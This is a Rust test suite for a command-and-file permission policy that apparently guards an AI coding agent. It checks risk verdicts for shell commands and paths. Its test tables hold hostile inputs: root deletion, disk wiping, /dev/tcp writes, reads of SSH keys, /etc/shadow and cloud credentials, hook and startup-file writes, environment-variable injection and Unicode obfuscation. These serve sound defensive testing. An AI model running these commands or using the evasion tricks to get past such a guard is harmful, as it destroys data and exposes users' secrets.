//! The attack cases of the families shell and files, each as a statement about verdicts.

use crate::imagined_disk::{ROOT, class, decided, facts, shell};
use mesoclaw_agent::policy::{
    Action, Autonomy, Decision, Inquiry, RepositoryFact, Situation, Verdict, decide, escaped,
};
use mesoclaw_api::{Surface, Timestamp};
use serde_json::json;

/// Each line of a table: a command and its class.
fn check(cases: &[(&str, &str)]) {
    let wrong: Vec<String> = cases
        .iter()
        .filter_map(|(line, expected)| {
            let found = class(&shell(line));
            (found != *expected).then(|| {
                let decision = decided(&shell(line), Autonomy::Supervised, None, &[]);
                format!(
                    "{}: expected {expected}, found {found}: {:?}",
                    escaped(line),
                    decision.verdict
                )
            })
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn step_words(decision: &Decision) -> Vec<Vec<String>> {
    decision
        .steps
        .iter()
        .map(|step| step.words.clone())
        .collect()
}

fn file_class(action: fn(String) -> Action, path: &str) -> &'static str {
    class(&Inquiry::new(
        "file",
        &json!({ "path": path }),
        vec![action(path.to_owned())],
    ))
}

#[test]
fn plain_work_is_of_the_expected_risk() {
    check(&[
        ("ls", "low"),
        ("ls -la src", "low"),
        ("cat a.txt | head -5 | wc -l", "low"),
        ("grep -rn 'fn main' src | sort -u | head -20", "low"),
        ("sed -n '1,20p' src/main.rs", "low"),
        ("find . -name '*.rs' -type f", "low"),
        ("git status && git log --oneline -n 5", "low"),
        ("git diff HEAD~1 -- src", "low"),
        ("[ -f Cargo.toml ] && echo yes", "low"),
        ("if test -d src; then ls src; else echo no; fi", "low"),
        ("cd src && ls", "low"),
        ("echo '--- title'", "low"),
        ("ps aux | head", "low"),
        ("cargo test --workspace 2>&1 | tail -n 40", "medium"),
        ("cargo test -- --nocapture", "medium"),
        ("npm test", "medium"),
        ("make -j4 test", "medium"),
        ("python3 -m pytest -q", "medium"),
        ("mkdir -p docs && touch docs/x", "medium"),
        ("echo hi > poem.txt", "medium"),
        ("cat <<'EOF' > poem.txt\nan $x `y`\nEOF", "medium"),
        ("sed -i 's/a/b/g' src/main.rs", "medium"),
        ("git add -A && git commit -m 'a message'", "medium"),
        ("cat /etc/hosts", "medium"),
        ("rm -rf target", "high"),
        ("git push origin main", "high"),
        ("curl https://example.org", "high"),
        ("npm install", "high"),
        ("nosuch", "high"),
        ("", "low"),
        ("# only a comment", "low"),
    ]);
}

#[test]
fn case_1_quotes_and_escapes_are_removed_before_judging() {
    for line in [
        "rm -rf x",
        "r''m -rf x",
        "\"rm\" -rf x",
        "\\rm -rf x",
        "'r'\"m\" -\"rf\" x",
        "r\\m -rf \\x",
    ] {
        let decision = decided(&shell(line), Autonomy::Autonomous, None, &[]);
        assert_eq!(
            step_words(&decision),
            vec![vec!["rm", "-rf", "x"]],
            "{line}"
        );
        assert!(matches!(decision.verdict, Verdict::Ask { .. }), "{line}");
    }
    let decision = decided(&shell("git pu\\sh"), Autonomy::Supervised, None, &[]);
    assert_eq!(step_words(&decision), vec![vec!["git", "push"]]);
    assert!(decision.network);
}

#[test]
fn case_3_expansions_ask_and_single_quotes_stay_literal() {
    check(&[
        ("echo $(id)", "high"),
        ("echo `id`", "high"),
        ("cat <(id)", "high"),
        ("ls >(id)", "high"),
        ("cat${IFS}x", "high"),
        ("$'\\x72m' x", "high"),
        ("echo $HOME", "high"),
        ("echo $((1+1))", "high"),
        ("echo {a,b}", "high"),
        ("echo ~eve", "high"),
        ("echo \"$(id)\"", "high"),
        ("echo \"`id`\"", "high"),
        ("cat <<EOF\n$(id)\nEOF", "high"),
        ("echo '$(id) `id` ${IFS}'", "low"),
        ("grep 'a$' a.txt", "low"),
        ("grep \"a$\" a.txt", "low"),
    ]);
}

#[test]
fn case_4_every_stage_is_judged_and_the_worst_wins() {
    check(&[
        ("echo hi | node", "high"),
        ("echo hi | sh", "high"),
        ("ls && rm x", "high"),
        ("ls; rm x", "high"),
        ("ls & rm x", "high"),
        ("ls || rm x", "high"),
        ("( ls; rm x )", "high"),
        ("{ ls; rm x; }", "high"),
        ("if ls; then rm x; fi", "high"),
        ("while ls; do rm x; done", "high"),
        ("! rm x", "high"),
        ("time rm x", "high"),
        ("ls && sudo ls", "deny"),
    ]);
}

#[test]
fn case_5_newlines_separate_and_nul_is_refused() {
    check(&[
        ("ls\nrm x", "high"),
        ("ls\r\nrm x", "high"),
        ("ls\\\nrm x", "high"),
        ("ls \\\n  -la", "low"),
        ("ls \x0c rm x", "high"),
        ("ls\0rm", "deny"),
        ("# c\nrm x", "high"),
        ("# c \\\nrm x", "high"),
    ]);
}

#[test]
fn case_6_wrappers_are_unwrapped() {
    for (line, inner) in [
        ("env RUST_LOG=info rm x", vec!["rm", "x"]),
        ("nice -n 5 rm x", vec!["rm", "x"]),
        ("timeout 5 rm x", vec!["rm", "x"]),
        ("nohup rm x", vec!["rm", "x"]),
        ("stdbuf -oL rm x", vec!["rm", "x"]),
        ("command rm x", vec!["rm", "x"]),
        ("exec rm x", vec!["rm", "x"]),
        ("time rm x", vec!["rm", "x"]),
        ("bash -c 'rm x'", vec!["rm", "x"]),
        ("timeout 5 nice env sh -c 'ls && rm x'", vec!["rm", "x"]),
        ("xargs rm", vec!["rm"]),
    ] {
        let decision = decided(&shell(line), Autonomy::Autonomous, None, &[]);
        assert!(matches!(decision.verdict, Verdict::Ask { .. }), "{line}");
        assert_eq!(step_words(&decision).last().unwrap(), &inner, "{line}");
    }
    check(&[
        ("timeout 5 ls", "low"),
        ("bash -c 'ls -la | head'", "low"),
        ("RUST_LOG=debug ls", "low"),
        ("FOO=1 ls", "high"),
        ("env -S 'sh -c x'", "high"),
        ("busybox sh", "high"),
        ("sudo -E ls", "deny"),
        ("env sudo ls", "deny"),
        ("bash -c 'sudo ls'", "deny"),
        ("/usr/bin/sudo ls", "deny"),
        ("./sneaky", "deny"),
        ("bash script.sh", "high"),
        ("eval ls", "high"),
        (". ./x", "high"),
    ]);
}

#[test]
fn case_7_variables_that_start_programs_are_never_taken() {
    for name in [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "BASH_ENV",
        "ENV",
        "SHELLOPTS",
        "PS4",
        "PATH",
        "IFS",
        "GIT_SSH_COMMAND",
        "GIT_CONFIG_COUNT",
        "GIT_PAGER",
        "PAGER",
        "EDITOR",
        "NPM_CONFIG_PREFIX",
        "PYTHONPATH",
        "NODE_OPTIONS",
        "RUSTC_WRAPPER",
        "HOME",
        "CDPATH",
    ] {
        for line in [
            format!("{name}=x ls"),
            format!("env {name}=x ls"),
            format!("export {name}=x; ls"),
            format!("{name}=x; ls"),
        ] {
            check(&[(line.as_str(), "high")]);
        }
    }
}

#[test]
fn case_8_find_that_runs_or_writes_is_not_low() {
    check(&[
        ("find . -exec sh -c x \\;", "high"),
        ("find . -execdir rm {} +", "high"),
        ("find . -delete", "high"),
        ("find . -fprintf x y", "high"),
        ("find . -ok rm {} \\;", "high"),
        ("find / -name x", "medium"),
        ("fd x -x rm", "high"),
    ]);
}

#[test]
fn case_10_a_repository_that_starts_programs_is_not_low() {
    let inquiry = shell("git status");
    let now = Timestamp::from_unix_ms(0);
    let situation = Situation {
        autonomy: Autonomy::Supervised,
        surface: Surface::Tui,
        taint: None,
        grants: &[],
        session_id: None,
        now: &now,
    };
    let mut facts = facts(&inquiry);
    assert!(matches!(
        decide(&inquiry, &facts, &situation).verdict,
        Verdict::Allow { .. }
    ));
    for repository in [
        None,
        Some(RepositoryFact {
            runs: vec!["diff.external".to_owned()],
        }),
    ] {
        facts.repository = repository;
        assert_eq!(
            decide(&inquiry, &facts, &situation).verdict.rule(),
            "program.repository"
        );
    }
    check(&[
        ("git -c core.pager=x log", "high"),
        ("git -C .. status", "high"),
        ("git --git-dir=x status", "high"),
        ("cd src && git status", "medium"),
        ("git log --output=x", "high"),
        ("git diff --ext-diff", "high"),
        ("git grep -O x", "high"),
        ("git config core.fsmonitor x", "high"),
        ("git rebase -x 'rm x' main", "high"),
        ("git clone ext::sh", "high"),
    ]);
}

#[test]
fn cases_11_13_14_programs_that_run_what_they_are_given_are_never_low() {
    check(&[
        ("tar xf a.tar --checkpoint-action=exec=sh", "high"),
        ("tar -tf a.tar --to-command=sh", "high"),
        ("tar tf a.tar --use-compress-program=sh", "high"),
        ("tar tf host:a.tar", "high"),
        ("tar tf a.tar", "low"),
        ("sort --compress-prog=sh a.txt", "high"),
        ("sort --compress-program=sh a.txt", "high"),
        ("sort -o a.txt b.txt", "medium"),
        ("python -c x", "high"),
        ("node -e x", "high"),
        ("perl -e x", "high"),
        ("ruby -e x", "high"),
        ("awk 'BEGIN{system(\"x\")}'", "high"),
        ("sed 1e a.txt", "high"),
        ("sed -n 's/a/b/e' a.txt", "high"),
        ("sed 's/a/b/w out' a.txt", "high"),
        ("sed -n '1w out' a.txt", "high"),
        ("sed -f x a.txt", "high"),
        ("vim -c '!x'", "high"),
        ("less a.txt", "high"),
        ("man -P x y", "high"),
        ("ed a.txt", "high"),
        ("rg --pre sh x", "high"),
        ("cargo check", "medium"),
        ("cargo --config x check", "high"),
        ("cargo +nightly check", "high"),
        ("make", "medium"),
        ("make SHELL=/x", "high"),
        ("make -j SHELL=/x", "high"),
        ("make --eval x", "high"),
        ("cmake -E env sh", "high"),
        ("pip install x", "high"),
        ("go run example.com/x@latest", "high"),
        ("test -v 'a[$(id)]'", "high"),
        ("printf -v x y", "high"),
        ("xargs cat", "high"),
        ("echo a | xargs echo", "low"),
    ]);
}

#[test]
fn case_15_arguments_of_low_programs_are_paths() {
    check(&[
        ("cat /etc/shadow", "high"),
        ("head ~/.ssh/id_ed25519", "high"),
        ("cat /home/ada/.ssh/id_ed25519", "high"),
        ("cat ../.ssh/id_ed25519", "high"),
        ("cat .env", "high"),
        ("cat keys/*", "high"),
        ("cat keys/*.pem", "high"),
        ("cat '~/x'", "low"),
        ("cp ~/.aws/credentials out", "high"),
        ("grep -r x /home/ada", "high"),
        ("grep -f/etc/shadow x", "high"),
        ("grep --file=/etc/shadow x", "high"),
        ("diff a.txt /etc/hosts", "medium"),
        ("cat /proc/self/environ", "deny"),
        ("cat /home/ada/.config/mesoclaw/config.toml", "high"),
        ("ls /home/ada/.ssh", "high"),
        ("cat < /etc/shadow", "high"),
    ]);
    for level in Autonomy::ALL {
        let decision = decided(&shell("cat ~/.ssh/id_rsa"), level, None, &[]);
        assert_eq!(decision.verdict.rule(), "path.secret");
        assert!(decision.patterns.is_empty(), "no grant covers it");
    }
}

#[test]
fn case_16_targets_of_writes_are_paths() {
    for line in [
        "echo x > ~/.bashrc",
        "echo x >> ~/.bashrc",
        "echo x >| ~/.bashrc",
        "echo x 1> ~/.bashrc",
        "echo x &> ~/.bashrc",
        "echo x >& ~/.bashrc",
        "echo x <> ~/.bashrc",
        "echo x | tee ~/.bashrc",
        "dd if=a.txt of=/home/ada/.bashrc",
        "cp a.txt .git/hooks/pre-commit",
        "cp evil/hooks .git",
        "mv evil/.git .",
        "cp x/.envrc .",
        "sort -o .git/config a.txt",
        "echo x > .vscode/tasks.json",
        "echo x > .GIT/config",
        "mkdir -p .github/workflows",
    ] {
        check(&[(line, "high")]);
    }
    check(&[
        ("echo x > /dev/sda", "deny"),
        ("dd if=/dev/zero of=/dev/sda", "deny"),
        ("echo x > /dev/tcp/1.2.3.4/80", "deny"),
        ("echo x > /dev/null 2>&1", "low"),
        ("echo x > /proc/sys/kernel/core_pattern", "deny"),
        ("echo x > /etc/hosts", "high"),
        ("echo x > /tmp/meso-s1/x", "medium"),
        ("uniq a.txt /etc/x", "high"),
        ("xxd a.txt b.txt", "medium"),
    ]);
}

#[test]
fn removing_roots_and_stopping_the_machine_is_refused() {
    check(&[
        ("rm -rf /", "deny"),
        ("rm -rf /*", "deny"),
        ("rm -rf ~", "deny"),
        ("rm -rf .", "deny"),
        ("rm -rf ..", "deny"),
        ("rm -rf /home/ada/work", "deny"),
        ("rm -rf /usr", "deny"),
        ("cd src && rm -rf ..", "deny"),
        ("mv ~ x", "deny"),
        ("shutdown now", "deny"),
        ("reboot", "deny"),
        ("mkfs.ext4 /dev/sda1", "deny"),
        ("systemctl poweroff", "deny"),
        ("su -c x", "deny"),
    ]);
}

#[test]
fn case_18_hidden_characters_ask_and_are_shown() {
    check(&[
        ("ls \u{202e}x", "high"),
        ("ls\u{200b}", "high"),
        ("ls '\u{2066}x'", "high"),
        ("\u{ff4c}\u{ff53}", "high"),
        ("\u{043b}s", "high"),
        ("l\u{430}", "high"),
        ("ls\u{a0}x", "high"),
        ("echo 日本 naïve", "low"),
    ]);
    let decision = decided(&shell("ls '\u{202e}x'"), Autonomy::Supervised, None, &[]);
    assert_eq!(decision.steps[0].what, "ls '\\u{202e}x'");
}

#[test]
fn case_19_programs_are_pinned_to_trusted_places() {
    check(&[
        ("./ls", "high"),
        ("src/cat a.txt", "high"),
        ("/usr/bin/ls", "low"),
        ("/tmp/ls", "high"),
        ("../ls", "high"),
    ]);
    let decision = decided(&shell("ls"), Autonomy::Supervised, None, &[]);
    assert_eq!(
        decision.steps[0].program.as_deref(),
        Some(std::path::Path::new("/usr/bin/ls"))
    );
}

#[test]
fn case_21_long_and_deep_commands_are_refused() {
    check(&[
        (&"a".repeat(1 << 20), "deny"),
        (&format!("ls {}", "x ".repeat(10_000)), "deny"),
        (
            &format!("{}ls{}", "( ".repeat(5000), " )".repeat(5000)),
            "deny",
        ),
        (
            &format!("{}ls{}", "{ ".repeat(1000), "; }".repeat(1000)),
            "deny",
        ),
        (&"if ls; then ".repeat(1000), "deny"),
        (&"nice ".repeat(100), "deny"),
        (&"ls;".repeat(300), "deny"),
    ]);
}

#[test]
fn case_22_everything_is_in_the_steps() {
    let line = "echo one && rm -rf 'a\u{1b}[2Kb'";
    let decision = decided(&shell(line), Autonomy::Supervised, None, &[]);
    assert_eq!(decision.steps.len(), 1);
    assert_eq!(decision.steps[0].what, "echo one && rm -rf 'a\\u{1b}[2Kb'");
    let long = format!("echo {} ; rm x", "y".repeat(5000));
    let decision = decided(&shell(&long), Autonomy::Supervised, None, &[]);
    assert_eq!(decision.steps[1].what, "rm x");
    assert!(decision.steps[0].what.len() > 5000);
}

#[test]
fn case_23_the_digest_changes_with_everything_that_matters() {
    let inquiry = shell("cat a.txt");
    let now = Timestamp::from_unix_ms(0);
    let situation = Situation {
        autonomy: Autonomy::Supervised,
        surface: Surface::Tui,
        taint: None,
        grants: &[],
        session_id: None,
        now: &now,
    };
    let digest = |inquiry: &Inquiry, facts: &mesoclaw_agent::policy::Facts| {
        decide(inquiry, facts, &situation).digest
    };
    let base = facts(&inquiry);
    let first = digest(&inquiry, &base);
    assert_eq!(first, digest(&inquiry, &base.clone()));
    assert_eq!(first.len(), 64);
    let mut others = vec![digest(&shell("cat  a.txt"), &base)];
    let mut changed = base.clone();
    changed.roots.cwd = "/home/ada/work/src".into();
    others.push(digest(&inquiry, &changed));
    let mut changed = base.clone();
    changed.environment.insert("A".to_owned(), "b".to_owned());
    others.push(digest(&inquiry, &changed));
    let mut changed = base.clone();
    changed
        .programs
        .get_mut("cat")
        .unwrap()
        .identity
        .as_mut()
        .unwrap()
        .inode = 77;
    others.push(digest(&inquiry, &changed));
    let mut changed = base.clone();
    changed.paths.values_mut().next().unwrap().resolved = "/x".into();
    others.push(digest(&inquiry, &changed));
    others.push(digest(
        &Inquiry::new(
            "other",
            &json!({ "command": "cat a.txt" }),
            inquiry.actions().to_vec(),
        ),
        &base,
    ));
    assert!(others.iter().all(|other| *other != first));
}

#[test]
fn case_26_where_nobody_can_be_asked_asking_is_refusing() {
    let inquiry = shell("rm x");
    let now = Timestamp::from_unix_ms(0);
    for (surface, is_refused) in [
        (Surface::Pipe, true),
        (Surface::Job, true),
        (Surface::Tool, true),
        (Surface::Tui, false),
        (Surface::Http, false),
    ] {
        let situation = Situation {
            autonomy: Autonomy::Autonomous,
            surface,
            taint: None,
            grants: &[],
            session_id: None,
            now: &now,
        };
        let verdict = decide(&inquiry, &facts(&inquiry), &situation).verdict;
        assert_eq!(
            matches!(verdict, Verdict::Deny { .. }),
            is_refused,
            "{surface:?}"
        );
    }
}

#[test]
fn case_27_paths_with_other_meanings_are_refused() {
    let read = |path: &str| file_class(|path| Action::Read { path }, path);
    for (path, expected) in [
        ("src/main.rs", "low"),
        ("./src//main.rs", "low"),
        ("/home/ada/work/a.txt", "low"),
        ("../other/x", "medium"),
        ("a/../../b", "medium"),
        ("/etc/hosts", "medium"),
        ("secret.", "deny"),
        ("secret ", "deny"),
        ("C:", "deny"),
        ("\\\\server\\x", "deny"),
        ("\\\\?\\C:\\x", "deny"),
        ("a.txt:stream", "deny"),
        ("CON", "deny"),
        ("a\0b", "deny"),
    ] {
        assert_eq!(read(path), expected, "{path:?}");
    }
}

#[test]
fn case_28_links_out_are_refused_and_hard_links_are_not_trusted() {
    let read = |path: &str| file_class(|path| Action::Read { path }, path);
    let write = |path: &str| file_class(|path| Action::Write { path }, path);
    for (path, reading, writing) in [
        ("link-out/passwd", "deny", "deny"),
        ("link-in/main.rs", "low", "medium"),
        ("hard.txt", "medium", "high"),
        ("new.txt", "low", "medium"),
    ] {
        assert_eq!((read(path), write(path)), (reading, writing), "{path}");
    }
    check(&[
        ("cat link-out/passwd", "deny"),
        ("cd link-out && ls", "deny"),
        ("echo x > link-out/y", "deny"),
    ]);
}

#[test]
fn case_30_special_files_are_refused() {
    let read = |path: &str| file_class(|path| Action::Read { path }, path);
    for path in [
        "/proc/self/environ",
        "/proc/1/mem",
        "/dev/sda",
        "/dev/mem",
        "fifo",
        "/proc/kcore",
        "/dev/fd/3",
    ] {
        assert_eq!(read(path), "deny", "{path}");
    }
    assert_eq!(read("/proc/meminfo"), "low");
}

#[test]
fn case_32_start_up_files_and_our_own_always_ask() {
    for path in [
        "~/.bashrc",
        "~/.config/autostart/x.desktop",
        "~/.config/systemd/user/x.service",
        "/etc/cron.d/x",
        "~/.config/mesoclaw/config.toml",
        "~/.local/share/mesoclaw/skills/x/SKILL.md",
        "~/.ssh/authorized_keys",
        ".git/hooks/pre-commit",
        ".git/config",
        ".envrc",
        ".npmrc",
        ".cargo/config.toml",
        ".vscode/tasks.json",
        ".husky/pre-commit",
    ] {
        let inquiry = Inquiry::new(
            "file_write",
            &json!({}),
            vec![Action::Write {
                path: path.to_owned(),
            }],
        );
        for level in Autonomy::ALL {
            let decision = decided(&inquiry, level, None, &[]);
            assert_eq!(decision.verdict.rule(), "path.protected", "{path}");
            assert!(decision.patterns.is_empty(), "no grant covers it");
        }
    }
}

#[test]
fn case_35_searching_outside_is_judged_like_reading() {
    let list = |path: &str| file_class(|path| Action::List { path }, path);
    assert_eq!(list("src"), "low");
    assert_eq!(list("/usr"), "medium");
    assert_eq!(list("link-out"), "deny");
    assert_eq!(list("~/.ssh"), "high");
}

#[test]
fn wildcards_are_judged_by_what_they_match() {
    check(&[
        ("cat *.txt", "low"),
        ("cat src/*.rs", "low"),
        ("cat src/[lm]*.rs", "low"),
        ("wc -l many*", "high"),
        ("find . -name *.txt", "low"),
        ("cp *.txt src", "medium"),
        ("rm *.txt", "high"),
        ("cat nothing*", "low"),
        ("ls odd/*", "low"),
        ("$X*", "high"),
        ("l* x", "high"),
        ("cat /etc/shad*", "medium"),
    ]);
}

#[test]
fn without_a_workspace_everything_asks() {
    let inquiry = shell("ls");
    let now = Timestamp::from_unix_ms(0);
    for root in [
        None,
        Some("/home/ada"),
        Some("/"),
        Some("/home"),
        Some("/etc"),
        Some("/home/ada/.ssh"),
    ] {
        let mut facts = facts(&inquiry);
        facts.roots.workspace = root.map(Into::into);
        for autonomy in Autonomy::ALL {
            let situation = Situation {
                autonomy,
                surface: Surface::Tui,
                taint: None,
                grants: &[],
                session_id: None,
                now: &now,
            };
            let verdict = decide(&inquiry, &facts, &situation).verdict;
            assert!(
                matches!(verdict, Verdict::Ask { .. }),
                "{root:?} {autonomy}"
            );
        }
    }
    assert!(ROOT.starts_with("/home/ada/"));
}

#[test]
fn code_of_the_project_asks_where_nothing_keeps_it_inside() {
    let inquiry = shell("cargo test");
    let now = Timestamp::from_unix_ms(0);
    for (enforced, expected) in [(true, "program.code"), (false, "program.unbound")] {
        let mut facts = facts(&inquiry);
        facts.sandbox.enforced = enforced;
        let situation = Situation {
            autonomy: Autonomy::Autonomous,
            surface: Surface::Tui,
            taint: None,
            grants: &[],
            session_id: None,
            now: &now,
        };
        let decision = decide(&inquiry, &facts, &situation);
        let is_allowed = matches!(decision.verdict, Verdict::Allow { .. });
        assert_eq!((is_allowed, decision.steps[0].rule), (enforced, expected));
    }
}
